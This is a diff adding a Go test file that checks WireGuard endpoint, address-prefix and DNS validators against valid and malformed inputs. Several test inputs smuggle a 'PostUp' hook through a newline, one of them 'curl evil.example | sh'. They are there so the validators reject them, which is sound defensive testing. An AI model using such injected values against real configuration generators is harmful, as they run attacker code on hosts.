@@ -0,0 +1,64 @@
+package controllers
+
+import "testing"
+
+func TestWireGuardEndpoint(t *testing.T) {
+	tests := []struct {
+		input string
+		want  string
+		ok    bool
+	}{
+		{input: "", want: "", ok: true},
+		{input: "site-a.example.com:51820", want: "site-a.example.com:51820", ok: true},
+		{input: "192.0.2.1:51820", want: "192.0.2.1:51820", ok: true},
+		{input: "[2001:db8::1]:51820", want: "[2001:db8::1]:51820", ok: true},
+		{input: "site-a.example.com", ok: false},
+		{input: "site-a.example.com:0", ok: false},
+		{input: "site-a.example.com:70000", ok: false},
+		{input: "[fe80::1%eth0]:51820", ok: false},
+		{input: "vpn:51820\nPostUp = curl evil.example | sh", ok: false},
+		{input: "vpn\n:51820", ok: false},
+		{input: "vpn example:51820", ok: false},
+	}
+
+	for _, tt := range tests {
+		got, err := wireGuardEndpoint(tt.input)
+		if (err == nil) != tt.ok {
+			t.Errorf("wireGuardEndpoint(%q) error = %v, want ok %v", tt.input, err, tt.ok)
+			continue
+		}
+		if tt.ok && got != tt.want {
+			t.Errorf("wireGuardEndpoint(%q) = %q, want %q", tt.input, got, tt.want)
+		}
+	}
+}
+
+func TestWireGuardPrefixes(t *testing.T) {
+	got, err := wireGuardPrefixes([]string{"10.0.0.1/24", "2001:db8::1/64"}, false)
+	if err != nil || got[0] != "10.0.0.1/24" || got[1] != "2001:db8::1/64" {
+		t.Errorf("interface addresses = %v, %v", got, err)
+	}
+	got, err = wireGuardPrefixes([]string{"10.0.0.1/24"}, true)
+	if err != nil || got[0] != "10.0.0.0/24" {
+		t.Errorf("routes = %v, %v", got, err)
+	}
+
+	for _, input := range []string{"10.0.0.1", "10.0.0.0/33", "10.0.0.0/24\nPostUp = id", "10.0.0.0/24, 0.0.0.0/0"} {
+		if _, err := wireGuardPrefixes([]string{input}, true); err == nil {
+			t.Errorf("wireGuardPrefixes accepted %q", input)
+		}
+	}
+}
+
+func TestWireGuardDNS(t *testing.T) {
+	got, err := wireGuardDNS([]string{"1.1.1.1", "2606:4700:4700::1111", "corp.example.com"})
+	if err != nil || len(got) != 3 {
+		t.Errorf("wireGuardDNS = %v, %v", got, err)
+	}
+
+	for _, input := range []string{"1.1.1.1\nPostUp = id", "corp example", "-corp.example", ""} {
+		if _, err := wireGuardDNS([]string{input}); err == nil {
+			t.Errorf("wireGuardDNS accepted %q", input)
+		}
+	}
+}